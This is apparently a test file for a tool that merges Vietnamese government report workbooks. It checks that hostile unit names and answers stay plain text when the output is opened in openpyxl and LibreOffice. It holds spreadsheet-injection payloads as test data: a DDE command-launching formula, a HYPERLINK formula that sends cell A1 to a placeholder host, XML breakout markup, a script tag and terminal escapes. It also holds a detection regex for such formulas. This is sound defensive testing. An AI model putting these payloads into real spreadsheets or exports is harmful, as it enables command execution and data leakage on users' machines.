// Hostile input (issue 11), read by other programs: every workbook `cchc merge` and `cchc new` write from the
// hostile value cases (sums past 1e308, control characters, XML markup, bidi, emoji, lone surrogates,
// formula-like unit names and answers, very long names, many units) opens in openpyxl (Debian's
// /usr/bin/python3) and in LibreOffice; the unit names read back as the merge reported them, what a unit
// typed is text and never a formula, and no cell LibreOffice recalculates holds Infinity, NaN or an error.
// The CSV `export --csv` writes, opened by LibreOffice, holds no formula either. One python3 process and one
// soffice run read every file.
import { execFileSync, spawnSync } from "node:child_process";
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { RawValue } from "../src/domain/values";
import { cchc, GOOD_VALUES, MERGE_ARGS, report, summary, Typed } from "./support/hostile";
import { libreOfficeAvailable, recalculate } from "./support/libreoffice";

const PYTHON = "/usr/bin/python3";
const withOpenpyxl = spawnSync(PYTHON, ["-c", "import openpyxl"], { stdio: "ignore" }).status === 0;
const COUNT = "1.1.1";
const TEXT = "7.6.1";
const INJECTION = "=cmd|' /C calc'!A0";

/** One command over its own folder; the files it writes are opened by the other programs. */
interface Written {
  name: string;
  files: () => Record<string, Uint8Array | string> | Promise<Record<string, Uint8Array | string>>;
  argv: string[];
  /** The unit names the output must show (for a merge, those of the files its --json report says it merged are added) */
  units?: string[];
  /** Text that must be in some cell of the output, as text (never a formula) */
  texts?: string[];
}

const withValues = (unit: string, values: Record<string, Typed>) => report(unit, { ...GOOD_VALUES, ...values } as Record<string, Typed>);
const mergeOf = (name: string, reports: Record<string, Uint8Array>, texts: string[] = []): Written => ({
  name,
  files: () => Object.fromEntries(Object.entries(reports).map(([f, b]) => [`nhan/${f}`, b])),
  argv: [...MERGE_ARGS, "--json"],
  texts,
});
const textMerge = (name: string, unit: string, answer = "Đã kết nối") =>
  mergeOf(
    name,
    { "a.xlsx": withValues(unit, { [TEXT]: answer }), "b.xlsx": report("UBND huyện B") },
    answer === "Đã kết nối" ? [] : [answer],
  );
const big = (units: string[], value: RawValue) => Object.fromEntries(units.map((u) => [u, { ...GOOD_VALUES, [COUNT]: value }]));

const CASES: Written[] = [
  mergeOf("1e308 + 1e308 in a count", {
    "a.xlsx": withValues("UBND huyện A", { [COUNT]: 1e308 }),
    "b.xlsx": withValues("UBND huyện B", { [COUNT]: 1e308 }),
  }),
  mergeOf("the largest double in two reports", {
    "a.xlsx": withValues("UBND huyện A", { [COUNT]: Number.MAX_VALUE, "3.3.3": Number.MAX_VALUE }),
    "b.xlsx": withValues("UBND huyện B", { [COUNT]: Number.MAX_VALUE, "3.3.3": Number.MAX_VALUE }),
  }),
  mergeOf("Infinity and NaN in the cells' XML", {
    "a.xlsx": withValues("UBND huyện A", { [COUNT]: { v: "1e999" }, "1.1.2": { v: "NaN" } }),
    "b.xlsx": withValues("UBND huyện B", { [COUNT]: { v: "-1e999" }, "1.1.2": { v: "1e308" } }),
  }),
  mergeOf("999.999.999.999.999 in two reports", {
    "a.xlsx": withValues("UBND huyện A", { [COUNT]: 999_999_999_999_999 }),
    "b.xlsx": withValues("UBND huyện B", { [COUNT]: 999_999_999_999_999 }),
  }),
  {
    name: "two summaries whose totals overflow when added",
    files: async () => ({
      "nhan/h1.xlsx": await summary(big(["UBND xã A", "UBND xã B"], 999_999_999_999_999), "UBND huyện 1"),
      "nhan/h2.xlsx": await summary(big(["UBND xã C", "UBND xã D"], 999_999_999_999_999), "UBND huyện 2"),
    }),
    argv: [...MERGE_ARGS, "--json"],
  },
  textMerge("a formula as the unit name and as an answer", '=HYPERLINK("http://x.example/?"&A1,"Sở Y tế")', INJECTION),
  textMerge("DDE in the unit name", INJECTION, "+SUM(1;2)"),
  textMerge("XML markup in the unit name and the answer", '<b>Sở "Y" & tế</b> ]]>', '</t></is></c><c r="A1"><f>cmd</f></c>'),
  textMerge("control characters in the unit name and the answer", "Sở\u0001 Y\u0008 tế\u000b\u001f\u007f", "Đã\u0000 kết\u0003 nối"),
  textMerge("noncharacters and lone surrogates", "Sở Y tế \ufffe\uffff\ud800", "Đã kết nối \udfff"),
  textMerge("terminal escapes", "\u001b[2J\u009b31mSở Y tế", "\u001b]0;x\u0007Đã kết nối"),
  textMerge("bidi overrides", "\u202eSở Y tế\u202c", "\u2067Đã kết nối\u2069"),
  textMerge("emoji and combining marks", "Sở Y tế 🏥👩‍⚕️ Quảng Ngãi", "Đã kết nối 🔗 e\u0301"),
  textMerge("a unit name of 5.000 characters and an answer of 40.000", `Sở ${"Y tế ".repeat(1000)}`.trim(), "Đ".repeat(40_000)),
  textMerge("line breaks and tabs in the unit name", "Sở\nY\ttế\r\n"),
  mergeOf(
    "120 units, some with hostile names",
    Object.fromEntries(
      Array.from({ length: 120 }, (_, i) => [
        `u${i}.xlsx`,
        withValues(i % 3 === 0 ? `=${i}+1 Xã ${i}` : i % 3 === 1 ? `Xã <${i}> & 🏥` : `UBND xã số ${i}`, {
          [COUNT]: i * 8_000_000_000_000,
        }),
      ]),
    ),
  ),
  {
    name: "new --roster with formulas, markup, bidi and emoji",
    files: () => ({ "ds.txt": `${INJECTION}\n<script>alert(1)</script> & co\nSở Y tế 🏥\n\u202eXã ngược\n${"Dài ".repeat(400)}\n` }),
    argv: ["new", "--template", "quang-ngai-2021", "--period", "2021-Q2", "--level", "so", "--roster", "ds.txt", "--out", "gui"],
    units: [INJECTION, "<script>alert(1)</script> & co", "Sở Y tế 🏥"],
  },
  {
    name: "export --csv of a report whose answers are formulas",
    files: () => ({ "x.xlsx": withValues("UBND huyện A", { [TEXT]: INJECTION, "7.6.2": "@SUM(1+1)*cmd" }) }),
    argv: ["export", "x.xlsx", "--csv"],
  },
];

/** XML 1.0's Char (https://www.w3.org/TR/xml/#charsets), less DEL: a written file drops the rest, and a parser reads a line end as \n. */
const xmlChar = (cp: number) =>
  cp === 0x9 || cp === 0xa || cp === 0xd || (cp >= 0x20 && cp <= 0xd7ff && cp !== 0x7f) || (cp >= 0xe000 && cp <= 0xfffd) || cp >= 0x10000;
const asWritten = (s: string) =>
  [...s]
    .filter((ch) => xmlChar(ch.codePointAt(0)!))
    .join("")
    .replace(/\r\n?/g, "\n");

interface Cell {
  ref: string;
  type: string;
  value: string | number | boolean | null;
  /** a float openpyxl read that JSON cannot hold */
  nonFinite?: string;
}
interface Opened {
  file: string;
  error?: string;
  sheets: { title: string; cells: Cell[] }[];
}

const SCRIPT = String.raw`
import json, math, sys, openpyxl
out = []
for job in json.load(sys.stdin):
    entry = {"file": job["file"], "sheets": []}
    try:
        wb = openpyxl.load_workbook(job["file"], data_only=job["dataOnly"])
        for ws in wb.worksheets:
            cells = []
            for row in ws.iter_rows():
                for c in row:
                    if c.value is None:
                        continue
                    v = c.value
                    cell = {"ref": c.coordinate, "type": c.data_type}
                    if isinstance(v, float) and not math.isfinite(v):
                        cell["value"] = None
                        cell["nonFinite"] = repr(v)
                    elif isinstance(v, (str, int, float, bool)):
                        cell["value"] = v
                    else:
                        cell["value"] = str(v)
                    cells.append(cell)
            entry["sheets"].append({"title": ws.title, "cells": cells})
    except Exception as e:
        entry["error"] = type(e).__name__ + ": " + str(e)
    out.append(entry)
json.dump(out, sys.stdout, ensure_ascii=False)
`;

/** Every file read in one python3 process; `dataOnly` reads the results a program cached instead of the formulas. */
function openpyxlRead(jobs: { file: string; dataOnly: boolean }[]): Opened[] {
  const input = JSON.stringify(jobs);
  return JSON.parse(execFileSync(PYTHON, ["-c", SCRIPT], { input, encoding: "utf8", maxBuffer: 1 << 30 })) as Opened[];
}

/** The header of the sources sheet's column that quotes a refused value as the file held it. */
const QUOTED_COLUMN = "Giá trị trong tệp";
const cellsOf = (o: Opened) => o.sheets.flatMap((s) => s.cells.map((c) => ({ ...c, sheet: s.title })));

(withOpenpyxl || process.env.CI === "true" ? describe : describe.skip)("written files open in openpyxl and LibreOffice", () => {
  const root = mkdtempSync(path.join(os.tmpdir(), "cchc-open-"));
  const flat = path.join(root, "all");
  /** Per case: the written files (copied flat, unique names), the unit names the output must show. */
  const outputs: { c: Written; files: string[]; csv: string[]; units: string[] }[] = [];
  let opened: Map<string, Opened>;

  beforeAll(async () => {
    mkdirSync(flat);
    for (const [i, c] of CASES.entries()) {
      const dir = path.join(root, `c${i}`);
      const files = await c.files();
      for (const [name, bytes] of Object.entries(files)) {
        mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
        writeFileSync(path.join(dir, name), bytes);
      }
      const run = await cchc(c.argv, dir);
      expect([c.name, run.code, run.stderr]).toEqual([c.name, c.argv[0] === "merge" ? run.code : 0, run.stderr]);
      const units = [...(c.units ?? [])];
      const written: string[] = [];
      const csv: string[] = [];
      if (c.argv[0] === "merge") {
        // Each file merged shows its unit's name in a cell of its own (a summary's units only in sentences).
        const report = JSON.parse(run.stdout) as { files: { unitName: string; status: string }[] };
        units.push(...report.files.filter((f) => f.status === "merged" || f.status === "flagged").map((f) => f.unitName));
        written.push(path.join(dir, "tong-hop.xlsx"));
      } else if (c.argv[0] === "new") written.push(...readdirSync(path.join(dir, "gui")).map((f) => path.join(dir, "gui", f)));
      else {
        writeFileSync(path.join(dir, "x.csv"), run.stdout);
        csv.push(path.join(dir, "x.csv"));
      }
      const flatten = (f: string, ext: string) => {
        const to = path.join(flat, `c${i}-${path.basename(f, ext).replace(/[^A-Za-z0-9-]/g, "_")}${ext}`);
        copyFileSync(f, to);
        return to;
      };
      outputs.push({ c, files: written.map((f) => flatten(f, ".xlsx")), csv: csv.map((f) => flatten(f, ".csv")), units });
    }
    const xlsx = outputs.flatMap((o) => o.files);
    opened = new Map(openpyxlRead(xlsx.map((file) => ({ file, dataOnly: false }))).map((o) => [o.file, o]));
  }, 600_000);

  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("every written workbook opens in openpyxl, every cell read", () => {
    expect(outputs.flatMap((o) => o.files).length).toBeGreaterThan(CASES.length);
    for (const o of outputs)
      for (const f of o.files) {
        const read = opened.get(f)!;
        expect([o.c.name, f, read.error]).toEqual([o.c.name, f, undefined]);
        expect(read.sheets.length).toBeGreaterThan(0);
        expect([o.c.name, cellsOf(read).filter((c) => c.nonFinite)]).toEqual([o.c.name, []]);
      }
  });

  it("the unit names read back as the merge reported them (minus what XML cannot hold), as text", () => {
    expect(outputs.flatMap((o) => o.units).length).toBeGreaterThan(140);
    for (const o of outputs) {
      const texts = o.files.flatMap((f) => cellsOf(opened.get(f)!)).filter((c) => c.type === "s");
      const shown = new Set(texts.map((c) => String(c.value)));
      const missing = o.units.map(asWritten).filter((u) => !shown.has(u));
      expect([o.c.name, missing]).toEqual([o.c.name, []]);
    }
  });

  it("what a unit typed is stored as text, never as a formula", () => {
    for (const o of outputs) {
      const cells = o.files.flatMap((f) => cellsOf(opened.get(f)!));
      for (const t of o.c.texts ?? []) {
        const want = asWritten(t).slice(0, 1000);
        const holding = cells.filter((c) => typeof c.value === "string" && c.value.includes(want));
        expect([o.c.name, t.slice(0, 40), holding.length > 0, holding.filter((c) => c.type !== "s")]).toEqual([
          o.c.name,
          t.slice(0, 40),
          true,
          [],
        ]);
      }
      const formulas = cells.filter((c) => c.type === "f").map((c) => String(c.value));
      expect([o.c.name, formulas.filter((f) => /cmd|HYPERLINK|WEBSERVICE|calc|script/i.test(f))]).toEqual([o.c.name, []]);
    }
  });

  (libreOfficeAvailable() || process.env.CI === "true" ? it : it.skip)(
    "LibreOffice opens and recalculates every file: finite numbers, no Infinity, NaN or error, no formula from the CSV",
    () => {
      const inputs = [...outputs.flatMap((o) => o.files), ...outputs.flatMap((o) => o.csv)];
      const copies = recalculate(inputs);
      // The results LibreOffice computed, and for each CSV the cells as it opened them (formulas evaluated).
      const csvCopies = copies.filter((_, i) => inputs[i].endsWith(".csv"));
      const read = openpyxlRead([
        ...copies.map((file) => ({ file, dataOnly: true })),
        ...csvCopies.map((file) => ({ file, dataOnly: false })),
      ]);
      const caseOf = (file: string) => outputs.find((o) => o.files.includes(file) || o.csv.includes(file))!.c.name;
      inputs.forEach((input, i) => {
        const r = read[i];
        const name = caseOf(input);
        expect([name, r.error]).toEqual([name, undefined]);
        const cells = cellsOf(r);
        // The sources sheet's "value in the file" column quotes what a refused cell held, as text: an error such as #NUM! may be there.
        const quoted = r.sheets.flatMap((s) =>
          s.cells.filter((c) => c.value === QUOTED_COLUMN).map((c) => `${s.title}!${c.ref.replace(/\d+$/, "")}`),
        );
        const bad = cells.filter(
          (c) =>
            c.nonFinite ||
            c.type === "e" ||
            (typeof c.value === "string" &&
              (/^(-?(inf|infinity)|nan)$/i.test(c.value.trim()) ||
                (/^#[A-Z/0!?]+$/i.test(c.value.trim()) && !quoted.includes(`${c.sheet}!${c.ref.replace(/\d+$/, "")}`)))),
        );
        expect([name, bad]).toEqual([name, []]);
      });
      csvCopies.forEach((_, i) => {
        const cells = cellsOf(read[copies.length + i]);
        expect(cells.filter((c) => c.type === "f")).toEqual([]);
        expect(cells.some((c) => typeof c.value === "string" && c.value.includes(INJECTION))).toBe(true);
      });
    },
    600_000,
  );
});
